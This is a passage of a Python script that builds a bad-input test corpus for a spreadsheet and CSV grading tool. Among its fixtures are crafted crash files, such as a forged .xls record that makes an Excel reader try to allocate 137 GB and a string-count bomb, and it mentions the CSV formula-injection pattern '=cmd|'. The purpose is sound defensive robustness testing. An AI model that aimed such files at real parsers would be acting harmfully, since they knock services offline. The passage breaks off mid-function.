"""Generate the bad-input corpus in tests/data/corpus/ and its manifest.

Run from the repository root (needs xlsxwriter and pyarrow; msoffcrypto-tool only to re-create
``encrypted.xlsx``, which is kept as committed when msoffcrypto is not installed)::

    python tests/data/make_corpus.py

Every file is built from scratch here: the table ``ENTRIES`` names each file, the CLI arguments
to use, and the expected outcome of ``python -m tierlib grade FILE --summary -``:

* ``{"exit": 2, "code": "io.empty_file"}`` - refused with that error code (one line on stderr,
  no traceback);
* ``{"exit": 0, "rows_read": r, "rows_used": u, "rows_rejected": x, "customers": c, ...}`` -
  graded with exactly that row accounting (hand-derived: see each entry's note).

A file with no data rows is always refused. Files that are large or dangerous by design
(decompression bombs, millions of rows) are not committed: tests/test_corpus.py builds them in a
temporary folder at test time. The output is deterministic except ``encrypted.xlsx`` (random salt).

Decisions the corpus pins down
------------------------------
* Excel formulas are not evaluated: the value cached in the file is read (``formulas.xlsx``).
  A cached error (``#DIV/0!``) reads as an empty cell; a formula saved by a library that wrote
  no real cached value reads as that placeholder (xlsxwriter writes 0).
* Hidden sheets are read only when no visible sheet has a table; a one-column sheet (notes in
  front of the data) only when no sheet has a table of two columns or more.
* A UTF-8 or GBK file with a few broken bytes is read with those bytes replaced by U+FFFD;
  mostly undecodable text is refused (``io.decode_failed``).
* Formula-like text (``=cmd|...``, ``+1``, ``@SUM``), HTML and SQL in cells or headers are data:
  they are read as text, never run (exports neutralise them: tests/test_export.py).
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import io
import json
import random
import re
import struct
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"
MANIFEST = CORPUS / "manifest.json"

ENTRIES: list[dict] = []


def entry(name: str, expect: dict, note: str, args: tuple[str, ...] = ()):
    """Register a builder ``fn() -> bytes`` for ``name`` with its expected outcome."""
    def deco(fn):
        ENTRIES.append({"file": name, "args": list(args), "expect": expect, "note": note,
                        "build": fn})
        return fn
    return deco


def refused(code: str) -> dict:
    return {"exit": 2, "code": code}


def graded(read: int, used: int, rejected: int, customers: int, **extra) -> dict:
    return {"exit": 0, "rows_read": read, "rows_used": used, "rows_rejected": rejected,
            "customers": customers, **extra}


def text(lines: list[str], end: str = "\n") -> str:
    return end.join(lines) + end


def utf8(lines: list[str], end: str = "\n") -> bytes:
    return text(lines, end).encode("utf-8")


def csv_bytes(rows: list[list], delimiter: str = ",", quoting: int = csv.QUOTE_MINIMAL) -> bytes:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\n", quoting=quoting).writerows(rows)
    return buf.getvalue().encode("utf-8")


HEADER = "customer_id,customer_name,order_date,revenue"


# --------------------------------------------------------------------------------------------
# Builders for binary formats
# --------------------------------------------------------------------------------------------

FIXED_TIME = dt.datetime(2024, 1, 1)


def xlsx(build) -> bytes:
    """A workbook written by xlsxwriter; ``build(workbook)`` adds the sheets."""
    import xlsxwriter

    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    wb.set_properties({"created": FIXED_TIME})
    build(wb)
    wb.close()
    return buf.getvalue()


def table_xlsx(sheets: dict[str, list[list]], hidden: tuple[str, ...] = ()) -> bytes:
    def build(wb):
        date_fmt = wb.add_format({"num_format": "yyyy-mm-dd"})
        first_visible = True
        for name, rows in sheets.items():
            ws = wb.add_worksheet(name)
            for r, row in enumerate(rows):
                for c, v in enumerate(row):
                    if v is None:
                        continue
                    if isinstance(v, dt.datetime):
                        ws.write_datetime(r, c, v, date_fmt)
                    elif isinstance(v, str):
                        ws.write_string(r, c, v)
                    else:
                        ws.write_number(r, c, v)
            if name in hidden:
                ws.hide()
            elif first_visible:
                ws.activate()
                ws.set_first_sheet()
                first_visible = False
    return xlsx(build)


_CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
       '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
       '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
       '<Default Extension="xml" ContentType="application/xml"/>'
       '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
       'officedocument.spreadsheetml.sheet.main+xml"/>'
       '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
       'officedocument.spreadsheetml.worksheet+xml"/></Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WB = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
       '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
       'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
       '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WB_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
              b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              b"<sheetData>")
SHEET_TAIL = b"</sheetData></worksheet>"


def raw_xlsx(sheet_data: str | bytes, path: Path | None = None, chunks=None) -> bytes | None:
    """A minimal hand-written xlsx with one worksheet.

    ``sheet_data`` is the XML inside ``<sheetData>``; ``chunks`` (an iterable of bytes) is
    streamed after it, so that a multi-MB sheet can be written to ``path`` without holding it.
    """
    body = sheet_data.encode() if isinstance(sheet_data, str) else sheet_data
    target = path if path is not None else io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in (("[Content_Types].xml", _CT), ("_rels/.rels", _RELS),
                              ("xl/workbook.xml", _WB), ("xl/_rels/workbook.xml.rels", _WB_RELS)):
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, content)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=(1980, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as fh:
            fh.write(SHEET_HEAD + body)
            for chunk in chunks or ():
                fh.write(chunk)
            fh.write(SHEET_TAIL)
    return None if path is not None else target.getvalue()


def istr(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


def num(ref: str, value) -> str:
    return f'<c r="{ref}"><v>{value}</v></c>'


XML_HEADER_ROWS = ('<row r="1">' + istr("A1", "customer_id") + istr("B1", "revenue") + "</row>"
                   '<row r="2">' + istr("A2", "A") + num("B2", 10) + "</row>"
                   '<row r="3">' + istr("A3", "B") + num("B3", 20) + "</row>")


# --- OLE2 compound file (with a mini stream) and BIFF8 records, for .xls files ---------------

_END, _FREE, _FATSECT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD


def _dir_entry(name: str, typ: int, child=_FREE, right=_FREE, start=0, size=0) -> bytes:
    raw = (name.encode("utf-16-le") + b"\x00\x00") if name else b""
    return (raw.ljust(64, b"\x00") + struct.pack("<HBB", len(raw), typ, 1)
            + struct.pack("<III", _FREE, right, child) + b"\x00" * 36
            + struct.pack("<IQ", start, size))


def cfb(streams: dict[str, bytes]) -> bytes:
    """An OLE2 compound file (v3, 512-byte sectors); streams under 4,096 bytes go to the mini
    stream, as Excel does for small files. Up to ~60 KB in total (one FAT sector)."""
    small = {k: v for k, v in streams.items() if len(v) < 4096}
    big = {k: v for k, v in streams.items() if len(v) >= 4096}
    mini, minifat, mini_start = b"", [], {}
    for name, data in small.items():
        n = (len(data) + 63) // 64
        mini_start[name] = len(mini) // 64
        minifat += [len(minifat) + i + 1 for i in range(n - 1)] + [_END]
        mini += data.ljust(n * 64, b"\x00")
    fat = [_FATSECT, _END]  # sector 0: FAT, sector 1: directory
    nxt = 2
    minifat_sector = _END
    if small:
        minifat_sector = nxt
        fat.append(_END)
        nxt += 1
    container = mini.ljust((len(mini) + 511) // 512 * 512, b"\x00")
    container_start = nxt if container else _END
    n = len(container) // 512
    fat += [nxt + i + 1 for i in range(n - 1)] + ([_END] if n else [])
    nxt += n
    big_start, body = {}, b""
    for name, data in big.items():
        padded = data.ljust((len(data) + 511) // 512 * 512, b"\x00")
        n = len(padded) // 512
        big_start[name] = nxt
        fat += [nxt + i + 1 for i in range(n - 1)] + [_END]
        nxt += n
        body += padded
    assert len(fat) <= 128, "corpus .xls too large for one FAT sector"
    names = list(streams)
    entries = [_dir_entry("Root Entry", 5, child=1, start=container_start, size=len(mini))]
    for i, name in enumerate(names):
        right = i + 2 if i + 1 < len(names) else _FREE
        start = mini_start[name] if name in small else big_start[name]
        entries.append(_dir_entry(name, 2, right=right, start=start, size=len(streams[name])))
    directory = b"".join(entries).ljust(512, b"\x00")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, minifat_sector, 1 if small else 0,
                            _END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108)
    fat_sector = struct.pack("<128I", *(fat + [_FREE] * (128 - len(fat))))
    minifat_bytes = struct.pack("<128I", *(minifat + [_FREE] * (128 - len(minifat)))) if small else b""
    return header + fat_sector + directory + minifat_bytes + container + body


def _rec(typ: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", typ, len(data)) + data


def biff_sheet(rows: list[list], extra: bytes = b"") -> bytes:
    cells = b""
    for r, row in enumerate(rows):
        for c, v in enumerate(row):
            if v is None:
                continue
            if isinstance(v, str):
                cells += _rec(0x0204, struct.pack("<HHHHB", r, c, 0, len(v), 1) + v.encode("utf-16-le"))
            else:
                cells += _rec(0x0203, struct.pack("<HHHd", r, c, 0, float(v)))
    width = max((len(r) for r in rows), default=0)
    return (_rec(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0, 6))
            + _rec(0x0200, struct.pack("<IIHHH", 0, len(rows), 0, width, 0)) + cells + extra
            + _rec(0x000A))


def xls(rows: list[list], extra: bytes = b"", name: str = "Sheet1") -> bytes:
    """A BIFF8 workbook with one sheet (strings and numbers)."""
    bof = _rec(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 6))
    glob = bof + _rec(0x0042, struct.pack("<H", 1200)) + \
        _rec(0x00E0, struct.pack("<HH", 0, 0) + b"\x00" * 16)

    def boundsheet(pos: int) -> bytes:
        return _rec(0x0085, struct.pack("<IBBBB", pos, 0, 0, len(name), 1) + name.encode("utf-16-le"))

    pos = len(glob) + len(boundsheet(0)) + 4
    book = glob + boundsheet(pos) + _rec(0x000A) + biff_sheet(rows, extra)
    return cfb({"Workbook": book})


def parquet(table) -> bytes:
    import pyarrow.parquet as pq

    buf = io.BytesIO()
    pq.write_table(table, buf)
    return buf.getvalue()


# --------------------------------------------------------------------------------------------
# Refused: nothing to read
# --------------------------------------------------------------------------------------------

@entry("empty.csv", refused("io.empty_file"), "0 bytes")
def _():
    return b""


@entry("blank_lines.csv", refused("io.empty_file"), "only CRLF, spaces and a tab")
def _():
    return b"\r\n   \r\n\t\r\n"


@entry("only_delimiters.csv", refused("io.empty_file"), "commas, semicolons and pipes only")
def _():
    return b",,,\n;;\n|\n"


@entry("bom_only.csv", refused("io.empty_file"), "a UTF-8 byte order mark and nothing else")
def _():
    return b"\xef\xbb\xbf"


@entry("header_only.csv", refused("io.no_data_rows"), "a header line and no data")
def _():
    return utf8([HEADER])


@entry("header_only_no_newline.csv", refused("io.no_data_rows"), "a header without a line end")
def _():
    return HEADER.encode()


@entry("header_then_blank_rows.csv", refused("io.no_data_rows"),
       "a header, then rows of empty cells and whitespace: blank rows are not data")
def _():
    return utf8([HEADER, ",,,", " , ,\u3000, ", "", "\t"])


@entry("header_only.xlsx", refused("io.no_data_rows"), "one sheet with a header row only")
def _():
    return table_xlsx({"订单": [["客户编号", "销售额", "订单日期"]]})


@entry("empty_sheet.xlsx", refused("io.empty_file"), "a workbook whose only sheet has no cells")
def _():
    return xlsx(lambda wb: wb.add_worksheet("Sheet1"))


@entry("no_header_numbers.csv", refused("io.no_header"), "numbers only: no row looks like a header")
def _():
    return utf8(["1,2,3", "4,5,6", "7,8,9"])


# --------------------------------------------------------------------------------------------
# Refused: not what the name says
# --------------------------------------------------------------------------------------------

@entry("binary_junk.csv", refused("io.not_text"), "4 KB of seeded random bytes named .csv")
def _():
    return random.Random(20241123).randbytes(4096)


@entry("png_named.csv", refused("io.not_text"), "a PNG signature followed by junk")
def _():
    return b"\x89PNG\r\n\x1a\n" + random.Random(7).randbytes(600)


@entry("gzip_named.csv", refused("io.not_text"), "a gzip-compressed CSV named .csv")
def _():
    return gzip.compress(utf8([HEADER, "A,甲,2024-01-01,10"]), mtime=0)


@entry("nul_bytes.csv", refused("io.not_text"), "a CSV with NUL bytes inside a name")
def _():
    return utf8([HEADER, "A,Ann\x00\x00,2024-01-01,10", "B,Bob,2024-01-02,20"])


@entry("text_named.xlsx", refused("io.bad_excel"), "CSV text named .xlsx")
def _():
    return utf8([HEADER, "A,Ann,2024-01-01,10"])


@entry("junk_named.xlsx", refused("io.bad_excel"), "random bytes named .xlsx")
def _():
    return random.Random(11).randbytes(2048)


@entry("truncated.xlsx", refused("io.bad_excel"), "the first 60% of a valid workbook")
def _():
    data = table_xlsx({"S": [["customer_id", "revenue"], ["A", 1], ["B", 2]]})
    return data[: len(data) * 6 // 10]


@entry("zip_without_workbook.xlsx", refused("io.bad_excel"), "a zip archive holding a text file")
def _():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo("readme.txt", (1980, 1, 1, 0, 0, 0)), "not a workbook")
    return buf.getvalue()


@entry("xlsb_named.xlsx", refused("io.bad_excel"),
       "a zip with xl/workbook.bin (binary .xlsb): refused, its sheets cannot be checked first")
def _():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo("[Content_Types].xml", (1980, 1, 1, 0, 0, 0)), _CT)
        zf.writestr(zipfile.ZipInfo("xl/workbook.bin", (1980, 1, 1, 0, 0, 0)), b"\x83\x01\x00")
    return buf.getvalue()


@entry("encrypted.xlsx", refused("io.encrypted_excel"),
       "a real password-protected workbook (password 'corpus'), encrypted with msoffcrypto-tool")
def _():
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError:
        return None  # keep the committed file
    plain = table_xlsx({"S": [["customer_id", "revenue"], ["A", 1], ["B", 2]]})
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(plain)).encrypt("corpus", out)
    return out.getvalue()


@entry("ole_junk.xls", refused("io.bad_excel"), "an OLE2 signature followed by junk")
def _():
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(3).randbytes(3000)


@entry("forged_column.xls", refused("io.bad_excel"),
       "a 5 KB .xls with a NUMBER record in column 65,536: the Excel reader would allocate "
       "65,536 x 65,536 cells (137 GB) and abort the process")
def _():
    far = _rec(0x0203, struct.pack("<HHHd", 65535, 65535, 0, 1.0))
    return xls([["customer_id", "revenue"], ["A", 10]], extra=far)


@entry("unsupported.json", refused("io.unsupported_format"), "a JSON file")
def _():
    return b'[{"customer_id": "A", "revenue": 10}]'


@entry("truncated.parquet", refused("io.bad_parquet"), "the first half of a Parquet file")
def _():
    import pyarrow as pa

    data = parquet(pa.table({"customer_id": ["A", "B"], "revenue": [1.0, 2.0]}))
    return data[: len(data) // 2]


# --------------------------------------------------------------------------------------------
# Refused: limits (small files that would expand enormously)
# --------------------------------------------------------------------------------------------

@entry("sparse_range.xlsx", refused("io.too_many_columns"),
       "5 KB: cells in A1:B3 and one in XFD1048576; the used range has 16,384 columns "
       "(limit 2,000) and 17 billion cells")
def _():
    return raw_xlsx(XML_HEADER_ROWS + '<row r="1048576">' + istr("XFD1048576", "far") + "</row>")


@entry("tall_sparse.xlsx", refused("io.sheet_too_large"),
       "one cell in CV1048576: 1,048,576 rows x 100 columns = 104,857,600 cells (limit 25,000,000)")
def _():
    return raw_xlsx(XML_HEADER_ROWS + '<row r="1048576">' + num("CV1048576", 1) + "</row>")


@entry("string_count_bomb.xlsx", graded(2, 2, 0, 2),
       "3 KB: the shared-strings table declares 2,000,000,000 strings and holds 4; the Excel "
       "reader reserved 48 GB for them and aborted the process")
def _():
    data = table_xlsx({"S": [["customer_id", "revenue"], ["A", 10], ["B", 20]]})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            body = zin.read(info)
            if info.filename == "xl/sharedStrings.xml":
                body = re.sub(rb'(count|uniqueCount)="\d+"', rb'\1="2000000000"', body)
            zout.writestr(info, body)
    return out.getvalue()


@entry("far_row.xlsx", refused("io.too_many_rows"),
       "a cell in row 99,999,999 (beyond Excel's 1,048,576 rows; limit 10,000,000)")
def _():
    return raw_xlsx(XML_HEADER_ROWS + '<row r="99999999">' + num("A99999999", 1) + "</row>")


@entry("lying_reference.xlsx", refused("io.too_many_columns"),
       "the far reference hides as the second r attribute of a cell (the reader takes the last)")
def _():
    return raw_xlsx(XML_HEADER_ROWS + '<row r="4"><c r="A4" r="XFD4" t="inlineStr">'
                                      "<is><t>x</t></is></c></row>")


@entry("too_many_columns.csv", refused("io.too_many_columns"), "2,500 columns (limit 2,000)")
def _():
    header = ["customer_id", "revenue"] + [f"c{i}" for i in range(2498)]
    return csv_bytes([header, ["A", "10"] + ["x"] * 2498])


# --------------------------------------------------------------------------------------------
# Refused: nothing usable
# --------------------------------------------------------------------------------------------

@entry("single_column.csv", refused("schema.no_value"), "one column of customer names")
def _():
    return utf8(["customer", "A", "B"])


@entry("no_customer_column.csv", refused("schema.no_customer"), "amount and date only")
def _():
    return utf8(["amount,date", "10,2024-01-01", "20,2024-01-02"])


@entry("all_rejected.csv", refused("schema.all_rejected"),
       "every amount is text or missing: 3 rows read, 3 rejected")
def _():
    return utf8(["customer_id,revenue", "A,abc", "B,xyz", "C,n/a"])


# --------------------------------------------------------------------------------------------
# Read: workbooks
# --------------------------------------------------------------------------------------------

@entry("several_sheets.xlsx", graded(3, 3, 0, 3, sheet="订单"),
       "sheet 1 '说明' holds notes in one column; sheet 2 '订单' the data (3 rows, A/B/C); "
       "sheet 3 '汇总' a summary. The first sheet with a table of 2+ columns is read")
def _():
    return table_xlsx({
        "说明": [["本文件由系统导出"], ["导出时间：2024-01-01"], ["单位：元"]],
        "订单": [["客户编号", "客户名称", "订单日期", "销售额"],
                 ["A", "甲", dt.datetime(2024, 1, 1), 10], ["B", "乙", dt.datetime(2024, 1, 2), 20],
                 ["C", "丙", dt.datetime(2024, 1, 3), 30]],
        "汇总": [["合计", 60]],
    })


@entry("hidden_first_sheet.xlsx", graded(3, 3, 0, 2, sheet="data"),
       "a hidden sheet 'tmp' comes first with another table (5 rows); the visible sheet 'data' "
       "has 3 rows for customers A, A, B")
def _():
    tmp = [["customer_id", "revenue"]] + [[f"T{i}", i] for i in range(5)]
    data = [["customer_id", "revenue"], ["A", 1], ["A", 2], ["B", 3]]
    return table_xlsx({"tmp": tmp, "data": data}, hidden=("tmp",))


@entry("merged_title.xlsx", graded(4, 4, 0, 4),
       "a merged title A1:D1, a note row and a blank row above the header on row 4")
def _():
    def build(wb):
        ws = wb.add_worksheet("订单")
        ws.merge_range(0, 0, 0, 3, "某某公司 2024 年销售明细")
        ws.write(1, 0, "单位：元   制表：销售部")
        ws.write_row(3, 0, ["客户编号", "客户名称", "订单日期", "销售额"])
        fmt = wb.add_format({"num_format": "yyyy-mm-dd"})
        for i, cid in enumerate("ABCD"):
            ws.write_string(4 + i, 0, cid)
            ws.write_string(4 + i, 1, f"客户{cid}")
            ws.write_datetime(4 + i, 2, dt.datetime(2024, 1, 1 + i), fmt)
            ws.write_number(4 + i, 3, 100 * (i + 1))
    return xlsx(build)


@entry("formulas.xlsx",
       graded(4, 2, 2, 2, rejected_by_reason={"missing_value": 1, "bad_number": 1},
              totals_revenue=20.0),
       "revenue = quantity x price as formulas. Row 2: cached 20 (used); row 3: cached #DIV/0! "
       "(read as empty: missing_value); row 4: no real cached value, xlsxwriter's placeholder 0 "
       "(used, value 0); row 5: a text formula result 'x1' (bad_number). Total 20 + 0 = 20")
def _():
    def build(wb):
        ws = wb.add_worksheet("S")
        ws.write_row(0, 0, ["customer_id", "quantity", "unit_price", "revenue"])
        ws.write_row(1, 0, ["A", 2, 10])
        ws.write_formula(1, 3, "=B2*C2", None, 20)
        ws.write_row(2, 0, ["B", 3, 0])
        ws.write_formula(2, 3, "=B3/C3", None, "#DIV/0!")
        ws.write_row(3, 0, ["C", 3, 5])
        ws.write_formula(3, 3, "=B4*C4")
        ws.write_row(4, 0, ["D", 1, 1])
        ws.write_formula(4, 3, '="x"&B5', None, "x1")
    return xlsx(build)


@entry("excel_serial_dates.xlsx",
       graded(4, 3, 1, 3, rejected_by_reason={"bad_date": 1}),
       "order dates as plain numbers (Excel serials): 45292 = 2024-01-01, 45293.5 = "
       "2024-01-02 12:00, 61 = 1900-03-01 (used); 60 = the fictitious 1900-02-29 (bad_date)")
def _():
    return table_xlsx({"S": [["customer_id", "order_date", "revenue"], ["A", 45292, 10],
                             ["B", 45293.5, 20], ["C", 61, 30], ["D", 60, 40]]})


@entry("dates_1900_2999.xlsx", graded(4, 2, 2, 2, rejected_by_reason={"bad_date": 2}),
       "real date cells: 1900-01-02 and 2100-12-31 are used; 2999-12-31 is after 2100 "
       "(bad_date); 1900-01-01 is serial 1, which the Excel reader returns as the time 00:00, "
       "not a date (bad_date)")
def _():
    return table_xlsx({"S": [["customer_id", "order_date", "revenue"],
                             ["A", dt.datetime(1900, 1, 1), 10],
                             ["B", dt.datetime(1900, 1, 2), 15],
                             ["C", dt.datetime(2100, 12, 31), 20],
                             ["D", dt.datetime(2999, 12, 31), 30]]})


@entry("small.xls", graded(3, 3, 0, 2), "a BIFF8 .xls in a mini stream: A 10, B 20, A 5")
def _():
    return xls([["customer_id", "revenue"], ["A", 10], ["B", 20], ["A", 5]])


@entry("parquet_types.parquet", graded(3, 3, 0, 3, totals_revenue=61.5),
       "decimal(18,2) revenue 10.25 + 20.50 + 30.75 = 61.50, a dictionary-encoded id, a list "
       "column and a binary column")
def _():
    import decimal

    import pyarrow as pa

    return parquet(pa.table({
        "customer_id": pa.array(["A", "B", "C"]).dictionary_encode(),
        "revenue": pa.array([decimal.Decimal("10.25"), decimal.Decimal("20.50"),
                             decimal.Decimal("30.75")], type=pa.decimal128(18, 2)),
        "tags": pa.array([["x"], [], ["y", "z"]]),
        "blob": pa.array([b"\x00\x01", b"", None], type=pa.binary()),
    }))


# --------------------------------------------------------------------------------------------
# Read: delimiters and encodings
# --------------------------------------------------------------------------------------------

@entry("semicolon_decimal_comma.csv", graded(3, 3, 0, 3, totals_revenue=61.5),
       "';' delimited with decimal commas: 12,50 + 19,00 + 30 = 61.50")
def _():
    return utf8(["customer_id;order_date;revenue", "A;2024-01-01;12,50", "B;2024-01-02;19,00",
                 "C;2024-01-03;30"])


@entry("comma_named.tsv", graded(2, 2, 0, 2), "comma-delimited text named .tsv")
def _():
    return utf8([HEADER, "A,Ann,2024-01-01,10", "B,Bob,2024-01-02,20"])


@entry("tab_named.csv", graded(2, 2, 0, 2), "tab-delimited text named .csv")
def _():
    return utf8([HEADER.replace(",", "\t"), "A\tAnn\t2024-01-01\t10", "B\tBob\t2024-01-02\t20"])


@entry("pipe_delimited.txt", graded(3, 3, 0, 2), "'|' delimited .txt: A, B, A")
def _():
    return utf8([HEADER.replace(",", "|"), "A|Ann|2024-01-01|10", "B|Bob|2024-01-02|20",
                 "A|Ann|2024-01-03|5"])


@entry("gbk.csv", graded(3, 3, 0, 3, encoding="gb18030"), "GBK with Chinese headers and names, CRLF")
def _():
    return text(["客户编号,客户名称,订单日期,销售额", "K1,张三,2024/1/1,10", "K2,李四,2024/1/2,20",
                 "K3,王五,2024/1/3,30"], "\r\n").encode("gbk")


@entry("utf16le_bom.csv", graded(2, 2, 0, 2, encoding="utf-16-le"), "UTF-16 LE with a BOM, tabs")
def _():
    return b"\xff\xfe" + text(["客户编号\t销售额", "K1\t10", "K2\t20"], "\r\n").encode("utf-16-le")


@entry("utf16be_no_bom.txt", graded(2, 2, 0, 2, encoding="utf-16-be"), "UTF-16 BE without a BOM")
def _():
    return text(["customer_id,revenue", "K1,10", "K2,20"]).encode("utf-16-be")


@entry("utf8_bom_crlf.csv", graded(2, 2, 0, 2, encoding="utf-8-sig"), "UTF-8 with BOM and CRLF")
def _():
    return b"\xef\xbb\xbf" + text(["客户编号,销售额", "K1,10", "K2,20"], "\r\n").encode()


def _chinese_rows(n: int) -> list[str]:
    names = "赵钱孙李周吴郑王冯陈褚卫蒋沈韩杨朱秦尤许何吕施张孔曹严华金魏陶姜"
    return [f"K{i:02d},{names[i % len(names)]}{names[(i * 7) % len(names)]}公司,2024-01-{1 + i % 28:02d},"
            f"{10 + i}" for i in range(n)]


@entry("mixed_encodings.csv", graded(31, 31, 0, 31, encoding="utf-8"),
       "30 UTF-8 rows with Chinese names plus one row saved in GBK: read as UTF-8 with the "
       "GBK bytes replaced; all 31 rows are used")
def _():
    head = "客户编号,客户名称,订单日期,销售额\n".encode()
    rows = _chinese_rows(30)
    return head + "\n".join(rows[:15]).encode() + b"\n" + "K99,李四商行,2024-02-01,99\n".encode("gbk") \
        + "\n".join(rows[15:]).encode() + b"\n"


@entry("broken_byte.csv", graded(30, 30, 0, 30, encoding="utf-8"),
       "UTF-8 with one stray 0xFF byte inside a name on line 12: read, the byte replaced")
def _():
    data = ("客户编号,客户名称,订单日期,销售额\n" + "\n".join(_chinese_rows(30)) + "\n").encode()
    lines = data.split(b"\n")
    lines[11] = lines[11].replace("公司".encode(), b"\xff" + "公司".encode(), 1)
    return b"\n".join(lines)


@entry("broken_byte_gbk.csv", graded(30, 30, 0, 30, encoding="gb18030"),
       "GBK with one invalid byte pair inside a name: read, the pair replaced")
def _():
    data = ("客户编号,客户名称,订单日期,销售额\r\n" + "\r\n".join(_chinese_rows(30)) + "\r\n").encode("gbk")
    lines = data.split(b"\r\n")
    lines[5] = lines[5].replace("公司".encode("gbk"), b"\x81\x20" + "公司".encode("gbk"), 1)
    return b"\r\n".join(lines)


@entry("latin1.csv", graded(3, 3, 0, 3), "Latin-1 accents only (no UTF-8, no Chinese)")
def _():
    return text(["customer_id,customer_name,revenue", "A,José,10", "B,Zoë,20", "C,Renée,30"]).encode("latin-1")


# --------------------------------------------------------------------------------------------
# Read: shape of the table
# --------------------------------------------------------------------------------------------

@entry("long_cell.csv", graded(3, 3, 0, 3),
       "line 3 holds a 150,000-character name (a 450 KB line; the csv module alone stops at 131,072)")
def _():
    return utf8([HEADER, "A,Ann,2024-01-01,10", "B," + "长" * 150_000 + ",2024-01-02,20",
                 "C,Cy,2024-01-03,30"])


@entry("wide_1000_columns.csv", graded(3, 3, 0, 3),
       "1,000 columns: customer_id, revenue and 998 filler columns")
def _():
    header = ["customer_id", "revenue"] + [f"f{i:03d}" for i in range(998)]
    rows = [[cid, str(v)] + [str(j % 7) for j in range(998)] for cid, v in (("A", 1), ("B", 2), ("C", 3))]
    return csv_bytes([header] + rows)


@entry("duplicate_headers.csv", graded(2, 2, 0, 2, totals_revenue=3.0),
       "headers revenue, revenue, REVENUE: the first is the revenue (1 + 2), the others become "
       "revenue_2 and REVENUE_3")
def _():
    return utf8(["customer_id,revenue,revenue,REVENUE", "A,1,100,1000", "B,2,200,2000"])


@entry("blank_headers.csv", graded(2, 2, 0, 2),
       "a blank header over data (column_2) and a trailing delimiter (dropped)")
def _():
    return utf8(["customer_id,,revenue,", "A,x,10,", "B,y,20,"])


@entry("all_empty_columns.csv", graded(3, 3, 0, 3), "named columns that are empty on every row")
def _():
    return utf8(["customer_id,notes,revenue,extra,region", "A,,10,,", "B,,20,,", "C,,30,,"])


@entry("ragged_rows.csv", graded(3, 2, 1, 2, rejected_by_reason={"missing_value": 1}),
       "row 2 has an extra cell, row 3 stops before revenue (missing_value), row 4 is complete")
def _():
    return utf8([HEADER, "A,Ann,2024-01-01,10,extra", "B,Bob,2024-01-02", "C,Cy,2024-01-03,30"])


@entry("title_notes.csv", graded(2, 2, 0, 2), "two note lines and a blank line above the header")
def _():
    return utf8(["销售明细报表", "导出时间: 2024-01-05 10:00", "", HEADER, "A,Ann,2024-01-01,10",
                 "B,Bob,2024-01-02,20"])


@entry("quoted_multiline.csv", graded(3, 3, 0, 3),
       "quoted names holding line breaks, commas and doubled quotes")
def _():
    return utf8([HEADER, 'A,"Ann\nSmith",2024-01-01,10', 'B,"Bob, ""the"" builder",2024-01-02,20',
                 'C,"Cy\r\n\r\nJr",2024-01-03,30'])


@entry("unclosed_quote.csv", graded(2, 1, 1, 1, rejected_by_reason={"missing_date": 1}),
       "a quote opened on line 3 never closes: the rest of the file (lines 3-5) is one name "
       "cell of customer B, whose date and revenue are then empty (rejected: missing_date)")
def _():
